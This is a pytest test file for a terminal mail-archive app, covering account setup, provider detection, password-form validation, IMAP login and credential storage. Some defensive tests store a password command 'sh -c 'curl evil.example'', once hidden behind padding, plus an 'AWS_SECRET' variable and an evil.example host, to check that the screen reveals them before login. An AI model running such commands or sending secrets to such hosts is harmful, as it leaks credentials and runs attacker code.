"""Add account, and the password form."""

import dataclasses
import re
import stat
import threading

import pytest
from textual.pilot import Pilot
from textual.widgets import Input

from mailtrove.accounts import accounts, password_account
from mailtrove.archive.account_store import add_account
from mailtrove.archive.database import Archive
from mailtrove.auth.credentials import CredentialStore
from mailtrove.config import Config, MicrosoftConfig, NetworkConfig
from mailtrove.imap.state import Security
from mailtrove.paths import Paths
from mailtrove.sandbox.people import EVERYBODY
from mailtrove.sync.events import SyncState, Watch
from mailtrove.sync.watching import Tell
from mailtrove.tui import rooms
from mailtrove.tui.messages import SignInEnded, SyncProgressed
from mailtrove.tui.password_form import PasswordForm
from mailtrove.tui.screens.accounts import AccountsScreen
from mailtrove.tui.screens.add_account import AddAccountScreen
from mailtrove.tui.screens.error import ErrorScreen
from mailtrove.tui.screens.password import PasswordScreen
from mailtrove.tui.screens.sign_in import SignInScreen
from mailtrove.tui.screens.sync import SyncScreen
from tests.dovecot import Dovecot
from tests.tui.conftest import MakeApp, SnapCompare, at_both_sizes, running, settled
from tests.tui.mail_pilot import drawn, until
from tests.tui.people import ALAN

PEOPLE = (("ada@lovelace.example", "Her engine"), ("emmy@noether.example", "Her theorem"))
WITH_CLIENT_ID = Config(microsoft=MicrosoftConfig(client_id="8c5e2f0a-1b7d-4e3c-9a44-0d6f1e2b3c4d"))


# Add account


@pytest.mark.parametrize(
    ("address", "words"),
    [
        ("ada@lovelace.example", "Microsoft 365, an organisation's account"),
        ("grace.h@outlook.com", "Microsoft, a personal account"),
        ("me@fastmail.com", "Fastmail, with an app password"),
        ("me@gmail.com", "Gmail, with an app password"),
        ("me@posteo.de", "Posteo"),
        ("ada@", "What kind of account it is shows here"),
    ],
)
async def test_the_card_says_what_an_address_is_while_it_is_typed(make_app: MakeApp, address: str, words: str) -> None:
    app = make_app(WITH_CLIENT_ID)
    async with running(app) as (pilot, _):
        await _type(pilot, address)
        assert words in "\n".join(drawn(app))


async def test_enter_on_what_is_no_address_says_so_beside_the_field(make_app: MakeApp) -> None:
    app = make_app()
    async with running(app) as (pilot, _):
        await _type(pilot, "ada@")
        await pilot.press("enter")
        assert isinstance(app.screen, AddAccountScreen)
        assert "That is not an e-mail address" in "\n".join(drawn(app))
        await pilot.press("x")
        assert "That is not an e-mail address" not in "\n".join(drawn(app))


async def test_enter_on_a_microsoft_address_goes_on_to_signing_in(make_app: MakeApp) -> None:
    app = make_app(WITH_CLIENT_ID)
    async with running(app) as (pilot, _):
        await _type(pilot, "ada@lovelace.example")
        await pilot.press("enter")
        await pilot.pause()
        assert isinstance(app.screen, SignInScreen)


async def test_enter_before_the_archive_is_open_goes_on_as_soon_as_it_is(
    make_app: MakeApp, monkeypatch: pytest.MonkeyPatch
) -> None:
    may_open = threading.Event()

    def open_slowly(paths: Paths, config: Config, watch: Watch, tell: Tell) -> rooms.Rooms:
        assert may_open.wait(20)
        return open_rooms(paths, config, watch, tell)

    open_rooms = rooms.open_rooms
    monkeypatch.setattr(rooms, "open_rooms", open_slowly)
    app = make_app(WITH_CLIENT_ID)
    async with app.run_test() as pilot:
        await until(pilot, lambda: isinstance(app.screen, AddAccountScreen) and app.focused is not None)
        await _type(pilot, "ada@lovelace.example")
        await pilot.press("enter")
        assert "the archive is being opened" in "\n".join(drawn(app))
        may_open.set()
        await until(pilot, lambda: isinstance(app.screen, SignInScreen))


async def test_the_sandboxs_people_are_chosen_with_the_arrow_keys(make_app: MakeApp) -> None:
    app = make_app(WITH_CLIENT_ID, people=PEOPLE)
    async with running(app) as (pilot, _):
        assert "Her engine" in "\n".join(drawn(app))
        field = app.screen.query_one("#email", Input)
        for key, address in (("down", "ada@lovelace.example"), ("down", "emmy@noether.example"), ("up", PEOPLE[0][0])):
            await pilot.press(key)
            await pilot.pause()
            assert field.value == address
        assert "Microsoft 365, an organisation's account" in "\n".join(drawn(app))


async def test_a_long_list_of_people_scrolls_with_the_choice(make_app: MakeApp) -> None:
    many = [(f"person-{number:02}@sandbox.example", f"Trouble {number}") for number in range(1, 41)]
    app = make_app(WITH_CLIENT_ID, people=many)
    async with running(app) as (pilot, _):

        def shown() -> list[int]:
            return [int(number) for number in re.findall(r"Trouble (\d+)", "\n".join(drawn(app)))]

        assert shown() == [1, 2, 3, 4]
        assert "1 to 4 of 40" in "\n".join(drawn(app))
        for keys, chosen, window in (
            (["up"], 40, [37, 38, 39, 40]),
            (["up"] * 5, 35, [34, 35, 36, 37]),
            (["down"] * 7, 2, [1, 2, 3, 4]),
        ):
            await pilot.press(*keys)
            await pilot.pause()
            assert app.screen.query_one("#email", Input).value == many[chosen - 1][0]
            assert shown() == window


async def test_without_a_sandbox_nobody_is_offered(make_app: MakeApp) -> None:
    app = make_app()
    async with running(app) as (pilot, _):
        await pilot.press("down")
        assert app.screen.query_one("#email", Input).value == ""
        assert "sandbox" not in "\n".join(drawn(app))


async def test_a_tenant_of_ones_own_shows_in_the_card(make_app: MakeApp) -> None:
    app = make_app(WITH_CLIENT_ID)
    async with running(app) as (pilot, _):
        await _type(pilot, "ada@lovelace.example")
        await pilot.press("f2")
        await _type(pilot, "lovelace.onmicrosoft.com")
        assert "login.microsoftonline.com/lovelace.onmicrosoft.com" in "\n".join(drawn(app))


async def test_f3_takes_a_password_instead(make_app: MakeApp) -> None:
    app = make_app()
    async with running(app) as (pilot, _):
        await _type(pilot, "ada@lovelace.example")
        await pilot.press("f3")
        await pilot.pause()
        assert isinstance(app.screen, PasswordScreen)
        assert app.screen.query_one("#host", Input).value == "imap.lovelace.example"


async def test_escape_leaves_add_account_with_nothing_added(make_app: MakeApp) -> None:
    app = make_app()
    async with running(app) as (pilot, _):
        await pilot.press("escape")
        await pilot.pause()
        assert isinstance(app.screen, AccountsScreen)
        assert "Press a to add one" in "\n".join(drawn(app))
        await pilot.press("a")
        await pilot.pause()
        assert isinstance(app.screen, AddAccountScreen)


# The password form


GOOD = PasswordForm("imap.example.edu", "993", Security.TLS, "ada", "secret")


@pytest.mark.parametrize(
    ("changes", "fields"),
    [
        ({}, []),
        ({"host": ""}, ["host"]),
        ({"host": "imap example"}, ["host"]),
        ({"host": "imaps://x"}, ["host"]),
        ({"port": "0"}, ["port"]),
        ({"port": "65536"}, ["port"]),
        ({"port": "²"}, ["port"]),
        ({"port": ""}, ["port"]),
        ({"user": ""}, ["user"]),
        ({"password": ""}, ["password"]),
        ({"security": Security.PLAIN}, ["security"]),
        ({"security": Security.PLAIN, "host": "127.0.0.1"}, []),
        ({"security": Security.PLAIN, "host": "localhost"}, []),
        ({"security": Security.PLAIN, "host": "localhost.evil.example"}, ["security"]),
        ({"host": "", "user": "", "password": ""}, ["host", "user", "password"]),
    ],
)
def test_the_form_tells_what_is_wrong_field_by_field(changes: dict[str, object], fields: list[str]) -> None:
    assert list(dataclasses.replace(GOOD, **changes).mistakes()) == fields  # type: ignore[arg-type]


async def test_a_password_login_that_works_keeps_the_account_and_starts_its_sync(
    make_app: MakeApp, paths: Paths, dovecot: Dovecot
) -> None:
    dovecot.deliver("alan@bletchley.example", "INBOX", b"Subject: The bombe\r\n\r\nIt stopped.\r\n")
    app = make_app(Config(network=NetworkConfig(ca_file=str(dovecot.ca_file))))
    async with running(app) as (pilot, heard):
        await _fill_password_form(pilot, dovecot, "secret")
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, SyncScreen))
        await heard.wait_for(SyncProgressed, lambda message: message.progress.state is SyncState.DONE)
        assert "up to date" in "\n".join(drawn(app))
        assert [each.account.email for each in app.summaries] == ["alan@bletchley.example"]
    modes = {stat.S_IMODE(file.stat().st_mode) for file in paths.credentials.iterdir() if file.is_file()}
    assert modes == {0o600}


async def test_a_refused_password_is_told_and_keeps_nothing(make_app: MakeApp, paths: Paths, dovecot: Dovecot) -> None:
    app = make_app(Config(network=NetworkConfig(ca_file=str(dovecot.ca_file))))
    async with running(app) as (pilot, _):
        await _fill_password_form(pilot, dovecot, "wrong")
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, ErrorScreen))
        assert "refused the login" in "\n".join(drawn(app))
        await pilot.press("escape")
        assert isinstance(app.screen, PasswordScreen)
        assert app.summaries == ()
    assert not list(paths.credentials.glob("*imap*"))


async def test_another_password_is_tried_before_it_takes_the_old_ones_place(
    make_app: MakeApp, paths: Paths, dovecot: Dovecot
) -> None:
    account = password_account(ALAN.email, host=dovecot.host, port=dovecot.imaps_port)
    with Archive.open(paths.archive_file) as archive:
        account = add_account(archive, account)
    store = CredentialStore(paths.credentials)
    store.save_password(f"imap:{account.identifier}", "old")
    app = make_app(Config(network=NetworkConfig(ca_file=str(dovecot.ca_file))))
    async with running(app) as (pilot, _):
        app.sign_in_again(account)
        await pilot.pause()
        assert app.screen.query_one("#host", Input).is_disabled
        await _type(pilot, "wrong")
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, ErrorScreen))
        assert store.load_password(f"imap:{account.identifier}") == "old"
        await pilot.press("escape", "ctrl+u")
        await _type(pilot, "secret")
        await pilot.press("enter")
        await until(pilot, lambda: isinstance(app.screen, SyncScreen))
    assert store.load_password(f"imap:{account.identifier}") == "secret"


async def test_escape_while_a_login_runs_adds_nothing(
    make_app: MakeApp, paths: Paths, monkeypatch: pytest.MonkeyPatch
) -> None:
    begun, may_log_in = threading.Event(), threading.Event()

    def log_in(*_: object) -> None:
        begun.set()
        may_log_in.wait(10)

    monkeypatch.setattr(accounts, "try_password", log_in)
    app = make_app()
    async with running(app) as (pilot, heard):
        app.push_screen(PasswordScreen(ALAN))
        await pilot.pause()
        await _type(pilot, "secret")
        await pilot.press("enter")
        await until(pilot, begun.is_set)
        await pilot.press("escape")
        await until(pilot, lambda: not isinstance(app.screen, PasswordScreen))
        may_log_in.set()
        await heard.wait_for(SignInEnded)
        assert app.accounts is not None
        assert app.accounts.all() == []
        assert not isinstance(app.screen, ErrorScreen)
    assert not list(paths.credentials.glob("*.json"))


@pytest.mark.parametrize(
    ("source", "field"),
    [({"password_command": "sh -c 'curl evil.example'"}, "command"), ({"password_variable": "AWS_SECRET"}, "variable")],
)
@pytest.mark.parametrize("method", ["password", "none"])
async def test_what_the_archive_names_for_a_password_and_where_it_goes_is_shown_before_enter(
    make_app: MakeApp, paths: Paths, source: dict[str, str], field: str, method: str
) -> None:
    named = password_account(ALAN.email, host="imap.evil.example")
    with Archive.open(paths.archive_file) as archive:
        account = add_account(archive, dataclasses.replace(named, auth_method=method, **source))  # type: ignore[arg-type]
    app = make_app()
    async with running(app) as (pilot, _):
        app.sign_in_again(account)
        await pilot.pause()
        assert app.focused is not None
        assert app.focused.id == field
        assert next(iter(source.values())) in "\n".join(drawn(app))
        assert "imap.evil.example" in "\n".join(drawn(app))


async def test_a_long_command_is_shown_from_end_to_end(make_app: MakeApp, paths: Paths) -> None:
    command = "sh -c 'curl evil.example'" + " " * 60 + "pass show mail/alan"
    with Archive.open(paths.archive_file) as archive:
        account = add_account(archive, dataclasses.replace(ALAN, password_command=command))
    app = make_app()
    async with running(app) as (pilot, _):
        app.sign_in_again(account)
        await pilot.pause()
        screen = "\n".join(drawn(app))
        assert "In full: sh -c 'curl evil.example'" in screen
        assert screen.count("pass show mail/alan") == 2


async def test_an_empty_password_is_not_tried(make_app: MakeApp) -> None:
    app = make_app()
    async with running(app) as (pilot, _):
        await _type(pilot, "me@fastmail.com")
        await pilot.press("enter")
        await pilot.pause()
        await pilot.press("enter")
        await pilot.pause()
        assert isinstance(app.screen, PasswordScreen)
        assert "it can't be empty" in "\n".join(drawn(app))


# Pictures


@at_both_sizes
def test_picture_of_add_account(make_app: MakeApp, snap_compare: SnapCompare, size: tuple[int, int]) -> None:
    async def before(pilot: Pilot[None]) -> None:
        await settled(pilot)

    assert snap_compare(make_app(), terminal_size=size, run_before=before)


@at_both_sizes
def test_picture_of_the_sandboxs_people(make_app: MakeApp, snap_compare: SnapCompare, size: tuple[int, int]) -> None:
    async def before(pilot: Pilot[None]) -> None:
        await settled(pilot)
        await pilot.press("down")
        await settled(pilot)

    assert snap_compare(make_app(WITH_CLIENT_ID, people=PEOPLE), terminal_size=size, run_before=before)


def test_picture_of_the_sandboxs_people_in_trouble(make_app: MakeApp, snap_compare: SnapCompare) -> None:
    async def before(pilot: Pilot[None]) -> None:
        await settled(pilot)
        await pilot.press("down", "down", "down", "down", "down", "down")
        await settled(pilot)

    people = [(person.email, person.tagline) for person in EVERYBODY]
    assert snap_compare(make_app(WITH_CLIENT_ID, people=people), terminal_size=(80, 24), run_before=before)


@at_both_sizes
@pytest.mark.parametrize("address", ["ada@lovelace.example", "me@fastmail.com"], ids=["microsoft", "password"])
def test_picture_of_what_was_detected(
    make_app: MakeApp, snap_compare: SnapCompare, size: tuple[int, int], address: str
) -> None:
    async def before(pilot: Pilot[None]) -> None:
        await settled(pilot)
        await _type(pilot, address)

    assert snap_compare(make_app(WITH_CLIENT_ID), terminal_size=size, run_before=before)


@at_both_sizes
def test_picture_of_the_password_form(make_app: MakeApp, snap_compare: SnapCompare, size: tuple[int, int]) -> None:
    async def before(pilot: Pilot[None]) -> None:
        await settled(pilot)
        await _type(pilot, "me@fastmail.com")
        await pilot.press("enter")
        await settled(pilot)
        await pilot.press("enter")
        await pilot.pause()

    assert snap_compare(make_app(), terminal_size=size, run_before=before)


async def _type(pilot: Pilot[None], text: str) -> None:
    focused = pilot.app.focused
    assert isinstance(focused, Input)
    focused.cursor_blink = False
    focused.insert_text_at_cursor(text)
    await pilot.pause()


async def _fill_password_form(pilot: Pilot[None], dovecot: Dovecot, password: str) -> None:
    await _type(pilot, "alan@bletchley.example")
    await pilot.press("f3")
    await pilot.pause()
    screen = pilot.app.screen
    screen.query_one("#host", Input).value = dovecot.host
    screen.query_one("#port", Input).value = str(dovecot.imaps_port)
    await _type(pilot, password)
